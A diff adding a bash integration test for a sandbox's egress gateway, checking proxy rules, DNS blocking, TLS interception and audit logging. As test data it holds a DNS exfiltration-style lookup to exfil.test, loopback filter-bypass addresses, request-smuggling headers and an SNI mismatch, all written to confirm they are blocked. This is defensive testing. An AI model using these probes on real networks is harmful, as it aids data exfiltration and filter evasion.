@@ -1,0 +1,292 @@
+#!/usr/bin/env bash
+# t_gateway: the egress gateway of a policy with a network section. Upstreams are servers
+# this test starts on 127.0.0.1 (names mapped to them with `resolve`); nothing else is
+# contacted, and no real DNS resolver is asked.
+#   - the explicit proxy (HTTP_PROXY ...): allowed, denied (403, JSON, X-Paddock-Decision),
+#     method and path rules, the default;
+#   - transparent capture of a client that ignores the proxy variables (DNS stub, fake
+#     address, the name found again), and a Host that names another host;
+#   - the DNS stub: answers from the policy only, NXDOMAIN (audited) for the rest, a long
+#     random-label exfiltration attempt included;
+#   - loopback through the gateway, in any notation, only when a rule names it;
+#   - CONNECT tunnels to a passthrough host (TLS end to end), refused for others;
+#   - no other way out (other addresses, UDP);
+#   - many concurrent connections; a slow upstream does not stall the others;
+#   - everything in the audit log.
+. "$(dirname "$0")/lib.sh"
+need_userns
+
+[ -e "$PADDOCK_BUILD/paddock-gateway.so" ] || bail_out "paddock-gateway.so is not built"
+command -v curl >/dev/null || skip_all "curl is not installed"
+
+# start_upstream VAR [ARGS...]: upstream.py on 127.0.0.1; its port in VAR.
+start_upstream() {
+    local var=$1 fifo="$T/.upstream.$RANDOM"
+    shift
+    mkfifo "$fifo"
+    "$PYTHON" "$PADDOCK_TOP/tests/integration/upstream.py" "$@" >"$fifo" &
+    track_pid $!
+    local port=""
+    IFS= read -r -t 30 port <"$fifo"
+    rm -f "$fifo"
+    [ -n "$port" ] || bail_out "the test upstream did not start"
+    printf -v "$var" '%s' "$port"
+}
+
+start_upstream HTTP_PORT --log "$T/upstream.log"
+
+# A test CA and a certificate for secure.test, for the passthrough tunnel.
+openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj "/CN=test CA" \
+    -keyout "$T/ca.key" -out "$T/ca.pem" >/dev/null 2>&1
+openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj "/CN=secure.test" \
+    -keyout "$T/secure.key" -out "$T/secure.csr" >/dev/null 2>&1
+printf 'subjectAltName=DNS:secure.test,DNS:tls.test\n' >"$T/san.ext"
+openssl x509 -req -in "$T/secure.csr" -CA "$T/ca.pem" -CAkey "$T/ca.key" -CAcreateserial \
+    -days 2 -extfile "$T/san.ext" -out "$T/secure.pem" >/dev/null 2>&1
+start_upstream TLS_PORT --tls "$T/secure.pem" "$T/secure.key"
+cp "$T/ca.pem" "$WS/ca.pem"
+
+cat >"$T/net.yaml" <<EOF
+version: 1
+network:
+  default: deny
+  rules:
+    - {host: api.test, methods: [GET, HEAD], path: /v1/**, decision: allow}
+    - {host: api.test, methods: [POST], path: /v1/items, decision: allow}
+    - {host: api.test, methods: [DELETE], decision: deny, reason: "deletes are not for agents"}
+    - {host: "*.cdn.test", decision: allow}
+    - {host: 127.0.0.1, port: $HTTP_PORT, path: /named/**, decision: allow}
+    - {host: secure.test, decision: allow}
+    - {host: slow.test, decision: allow}
+    - {host: tls.test, methods: [GET], path: /v1/**, decision: allow}
+    - {host: tls.test, methods: [DELETE], decision: deny, reason: "no deletes over TLS either"}
+    - {host: untrusted.test, decision: allow}
+  passthrough: [secure.test]
+  resolve:
+    "api.test:80": "127.0.0.1:$HTTP_PORT"
+    "img.cdn.test:80": "127.0.0.1:$HTTP_PORT"
+    "slow.test:80": "127.0.0.1:$HTTP_PORT"
+    "secure.test:443": "127.0.0.1:$TLS_PORT"
+    "tls.test:443": "127.0.0.1:$TLS_PORT"
+    "untrusted.test:443": "127.0.0.1:$TLS_PORT"
+  upstream_ca: [$T/ca.pem]
+EOF
+
+# One sandboxed script runs every client; its output is checked line by line.
+cat >"$WS/clients.sh" <<'EOF'
+c() {
+    o=$(curl -sS --max-time 20 "$@" 2>/dev/null)
+    rc=$?
+    printf '%s rc=%s\n' "$(printf '%s' "$o" | tr -d '\r\n')" "$rc"
+}
+echo "== proxy"
+c http://api.test/v1/things
+c -o /dev/null -w '%{http_code}' http://api.test/v2/things
+c -X POST -d '{"a":1}' http://api.test/v1/items
+c -o /dev/null -w '%{http_code}' -X POST http://api.test/v1/other
+c -i -X DELETE http://api.test/v1/things/1
+c http://img.cdn.test/v1/logo
+c -o /dev/null -w '%{http_code}' http://cdn.test/
+echo "== capture"
+c --noproxy '*' http://api.test/v1/captured
+c --noproxy '*' -o /dev/null -w '%{http_code}' -X DELETE http://api.test/v1/x
+c --noproxy '*' -o /dev/null -w '%{http_code}' -H 'Host: other.test' http://api.test/v1/x
+python3 -c '
+import urllib.request
+print(urllib.request.urlopen("http://api.test/v1/py").status)'
+echo "== dns"
+getent hosts api.test
+getent hosts evil.test; echo "getent rc=$?"
+getent hosts aGVsbG8gd29ybGQgc2VjcmV0IGRhdGE.x7f3a9c2e1b0d4f6a8c.exfil.test; echo "exfil rc=$?"
+echo "== loopback"
+c http://127.0.0.1:PORT/named/ok
+c -o /dev/null -w '%{http_code}' http://127.0.0.1:PORT/other
+c -o /dev/null -w '%{http_code}' http://0x7f.1:PORT/named/ok
+c -o /dev/null -w '%{http_code}' http://2130706433:PORT/named/ok
+c -o /dev/null -w '%{http_code}' http://[::ffff:127.0.0.1]:PORT/named/ok
+c -o /dev/null -w '%{http_code}' http://localhost:PORT/named/ok
+echo "== connect"
+c --cacert ca.pem https://secure.test/v1/tls
+c -o /dev/null -w '%{http_connect}' https://nowhere.test/
+echo "== tls"
+c https://tls.test/v1/intercepted
+c -i -X DELETE https://tls.test/v1/x
+c -o /dev/null -w '%{http_code}' https://tls.test/v2/x
+c --noproxy '*' https://tls.test/v1/captured
+c -i https://untrusted.test/
+python3 -c '
+import urllib.request
+print(urllib.request.urlopen("https://tls.test/v1/py").status)'
+if command -v node >/dev/null; then node -e 'fetch("https://tls.test/v1/node").then(r => console.log("node", r.status)).catch(e => console.log("node error", e.cause || e))'; else echo "no node"; fi
+python3 -c '
+import socket, ssl
+s = socket.create_connection(("127.0.0.1", 3128))
+s.sendall(b"CONNECT tls.test:443 HTTP/1.1\r\nHost: tls.test:443\r\n\r\n")
+s.recv(4096)
+ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
+try:
+    ctx.wrap_socket(s, server_hostname="other.test"); print("sni accepted")
+except ssl.SSLError as e:
+    print("sni refused")'
+echo "== no other way out"
+c --noproxy '*' --max-time 3 -o /dev/null http://10.1.2.3/
+python3 -c '
+import socket
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+try:
+    s.sendto(b"x", ("10.1.2.3", 53)); print("udp sent")
+except OSError as e:
+    print("udp errno", e.errno)'
+echo "== end"
+EOF
+sed -i "s/PORT/$HTTP_PORT/g" "$WS/clients.sh"
+wrun --policy "$T/net.yaml" -- sh ./clients.sh
+expect_eq "the script runs to its end" 0 "$RC"
+line() { printf '%s\n' "$OUT" | sed -n "/^== $1\$/,/^== /p" | sed -n "$(($2 + 1))p"; }
+
+expect_match "proxy: an allowed GET reaches the upstream" '"path": "/v1/things".* rc=0' "$(line proxy 1)"
+expect_eq "proxy: outside the allowed path: the default (403)" "403 rc=0" "$(line proxy 2)"
+expect_match "proxy: an allowed POST with its body" '"method": "POST".*"body_len": 7' "$(line proxy 3)"
+expect_eq "proxy: POST elsewhere: 403" "403 rc=0" "$(line proxy 4)"
+deny=$(line proxy 5)
+expect_match "proxy: a denied request: 403" "HTTP/1.1 403 Forbidden" "$deny"
+expect_match "... with X-Paddock-Decision: deny" "X-Paddock-Decision: deny" "$deny"
+expect_match "... and a JSON body naming the rule and its reason" \
+    '"error":"blocked".*"reason":"deletes are not for agents","rule":3' "$deny"
+expect_match "proxy: a *. rule covers a subdomain" '"path": "/v1/logo".* rc=0' "$(line proxy 6)"
+expect_eq "... not the domain itself" "403 rc=0" "$(line proxy 7)"
+
+expect_match "capture: a client ignoring the proxy reaches the upstream" \
+    '"path": "/v1/captured".* rc=0' "$(line capture 1)"
+expect_eq "capture: a denied method: 403" "403 rc=0" "$(line capture 2)"
+expect_eq "capture: a Host naming another host: 403" "403 rc=0" "$(line capture 3)"
+expect_eq "python urllib through the proxy variables" "200" "$(line capture 4)"
+
+expect_match "dns: an allowed name gets a fake address" "^198\.1[89]\.[0-9.]+ +api\.test$" "$(line dns 1)"
+expect_eq "dns: a name no rule allows: NXDOMAIN" "getent rc=2" "$(line dns 2)"
+expect_eq "dns: an exfiltration-shaped name: NXDOMAIN" "exfil rc=2" "$(line dns 3)"
+
+expect_match "loopback: a rule naming 127.0.0.1 and the port lets it through" \
+    '"path": "/named/ok".* rc=0' "$(line loopback 1)"
+expect_eq "loopback: outside that rule: 403" "403 rc=0" "$(line loopback 2)"
+expect_eq "loopback: 0x7f.1 is 127.0.0.1 (same rule)" "200 rc=0" "$(line loopback 3)"
+expect_eq "loopback: 2130706433 is 127.0.0.1" "200 rc=0" "$(line loopback 4)"
+expect_eq "loopback: ::ffff:127.0.0.1 is not the host the rule names: 403" "403 rc=0" \
+    "$(line loopback 5)"
+expect_eq "loopback: localhost is a name no rule allows: 403" "403 rc=0" "$(line loopback 6)"
+
+expect_match "connect: a passthrough host is tunnelled, TLS end to end" '"path": "/v1/tls".* rc=0' \
+    "$(line connect 1)"
+expect_match "connect: a host no rule allows is refused (403)" "^403 rc=" "$(line connect 2)"
+
+expect_match "tls: an intercepted request that the rules allow" '"path": "/v1/intercepted".* rc=0' \
+    "$(line tls 1)"
+expect_match "tls: a denied one inside TLS: 403 with the reason" \
+    'HTTP/1.1 403 Forbidden.*X-Paddock-Decision: deny.*no deletes over TLS either' "$(line tls 2)"
+expect_eq "tls: outside the path: 403" "403 rc=0" "$(line tls 3)"
+expect_match "tls: a captured TLS connection is intercepted too" '"path": "/v1/captured".* rc=0' \
+    "$(line tls 4)"
+expect_match "tls: an upstream certificate that does not verify: 502, saying why" \
+    'HTTP/1.1 502 Bad Gateway.*certificate of untrusted.test is not trusted' "$(line tls 5)"
+expect_eq "tls: python trusts the gateway (REQUESTS_CA_BUNDLE, SSL_CERT_FILE)" "200" "$(line tls 6)"
+if command -v node >/dev/null; then
+    expect_eq "tls: node fetch trusts it (NODE_EXTRA_CA_CERTS)" "node 200" "$(line tls 7)"
+fi
+expect_eq "tls: an SNI naming another host than the CONNECT is refused" "sni refused" \
+    "$(line tls 8)"
+
+expect_match "no route to any other address" "rc=7" "$(line 'no other way out' 1)"
+expect_eq "no UDP out" "udp errno 101" "$(line 'no other way out' 2)"
+
+pdk audit --json
+events=$(printf '%s\n' "$OUT")
+count() {
+    printf '%s\n' "$events" | "$PYTHON" -c '
+import json, sys
+kind, key, value = sys.argv[1], sys.argv[2], sys.argv[3]
+n = 0
+for l in sys.stdin:
+    if not l.strip(): continue
+    e = json.loads(l)
+    if e["kind"] == kind and str(e["data"].get(key)) == value: n += 1
+print(n)' "$@"
+}
+expect_ne "audit: allowed requests (net.request allow)" 0 "$(count net.request decision allow)"
+expect_ne "audit: denied requests (net.request deny)" 0 "$(count net.request decision deny)"
+expect_ne "audit: responses with their status" 0 "$(count net.response status 200)"
+expect_eq "audit: the captured DELETE is there, denied" 1 \
+    "$(printf '%s\n' "$events" | grep -c '"method":"DELETE".*"via":"capture"' )"
+expect_ne "audit: blocked DNS queries" 0 "$(count dns.blocked name evil.test)"
+expect_match "audit: the exfiltration attempt is recorded" '"kind":"dns.blocked".*exfil\.test' "$events"
+expect_ne "audit: the tunnel" 0 "$(count net.connect host secure.test)"
+expect_ne "audit: intercepted requests, with their method and path" 0 \
+    "$(count net.request path /v1/intercepted)"
+expect_ne "audit: the upstream's bad certificate" 0 "$(count net.upstream_error host untrusted.test)"
+
+# paddock ca --pem prints the CA the sandboxes trust; its key stays in the state dir.
+pdk ca --pem
+expect_match "paddock ca --pem prints the CA certificate" "^-----BEGIN CERTIFICATE-----" "$OUT"
+printf '%s\n' "$OUT" >"$T/paddock-ca.pem"
+expect_match "... a CA certificate (CA:TRUE, for signing certificates only)" \
+    "CA:TRUE.*Certificate Sign" \
+    "$(openssl x509 -in "$T/paddock-ca.pem" -noout -text | tr '\n' ' ')"
+expect_eq "the CA key is private to its owner" 600 "$(stat -c %a "$STATE/ca/ca.key")"
+pdk audit verify
+expect_eq "the log verifies" 0 "$RC"
+expect_eq "the upstream never saw a denied request" 0 \
+    "$(grep -c '"method": "DELETE"' "$T/upstream.log")"
+
+# Many processes at once, and a slow upstream that does not stall the others.
+cat >"$WS/many.sh" <<'EOF'
+curl -sS --max-time 20 -o /dev/null -w 'slow %{http_code}\n' http://slow.test/slow &
+for i in $(seq 40); do
+    curl -sS --max-time 20 -o /dev/null -w '%{http_code}\n' "http://api.test/v1/n$i" &
+done
+wait
+EOF
+wrun --policy "$T/net.yaml" -- sh ./many.sh
+expect_eq "40 concurrent clients: all answered 200" 40 "$(printf '%s\n' "$OUT" | grep -c '^200$')"
+expect_eq "... and the slow one too, last" "slow 200" "$(printf '%s\n' "$OUT" | tail -n 1)"
+
+# Keep-alive and pipelining: several requests on one connection, in order.
+cat >"$WS/pipe.py" <<'EOF'
+import socket
+s = socket.create_connection(("127.0.0.1", 3128))
+req = b"".join(b"GET http://api.test/v1/p%d HTTP/1.1\r\nHost: api.test\r\n\r\n" % i for i in range(3))
+s.sendall(req)
+data = b""
+while b"/v1/p2" not in data:
+    chunk = s.recv(65536)
+    if not chunk: break
+    data += chunk
+print(data.count(b"HTTP/1.1 200"), [p for p in (b"/v1/p0", b"/v1/p1", b"/v1/p2") if p in data] == [b"/v1/p0", b"/v1/p1", b"/v1/p2"], data.index(b"/v1/p0") < data.index(b"/v1/p1") < data.index(b"/v1/p2"))
+EOF
+wrun --policy "$T/net.yaml" -- python3 pipe.py
+expect_eq "pipelined requests on one connection: three responses, in order" "3 True True" "$OUT"
+
+# Malformed requests: answered with the right status, and the gateway keeps serving.
+cat >"$WS/bad.py" <<'EOF'
+import socket
+def ask(raw):
+    s = socket.create_connection(("127.0.0.1", 3128))
+    s.sendall(raw)
+    data = s.recv(4096)
+    s.close()
+    return data.split(b"\r\n")[0].decode()
+print(ask(b"GET http://api.test/v1/a HTTP/1.1\r\nHost: api.test\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n"))
+print(ask(b"GET http://api.test/v1/a HTTP/1.1\r\nHost: api.test\r\nX-A: 1\r\n folded\r\n\r\n"))
+print(ask(b"GET http://api.test/v1/a HTTP/1.1\r\nHost: api.test\r\n" + b"X-Long: " + b"a" * 70000 + b"\r\n\r\n"))
+print(ask(b"\x16\x03\x01\x02\x00garbage\r\n\r\n"))
+print(ask(b"GET http://api.test/v1/after HTTP/1.1\r\nHost: api.test\r\n\r\n"))
+EOF
+wrun --policy "$T/net.yaml" -- python3 bad.py
+expect_eq "CL with TE: 400" "HTTP/1.1 400 Bad Request" "$(printf '%s\n' "$OUT" | sed -n 1p)"
+expect_eq "obs-fold: 400" "HTTP/1.1 400 Bad Request" "$(printf '%s\n' "$OUT" | sed -n 2p)"
+expect_eq "an oversized head: 431" "HTTP/1.1 431 Request Header Fields Too Large" \
+    "$(printf '%s\n' "$OUT" | sed -n 3p)"
+expect_match "TLS garbage to the proxy: 4xx" "^HTTP/1.1 4[0-9][0-9] " "$(printf '%s\n' "$OUT" | sed -n 4p)"
+expect_eq "... and the next request is served" "HTTP/1.1 200 OK" "$(printf '%s\n' "$OUT" | sed -n 5p)"
+
+# Without a network section there is no gateway: nothing listens, nothing resolves.
+wrun -- sh -c 'curl -sS --max-time 3 http://api.test/ ; echo "rc=$?"'
+expect_match "no network section: no proxy, no way out" "rc=(5|6|7)" "$OUT"
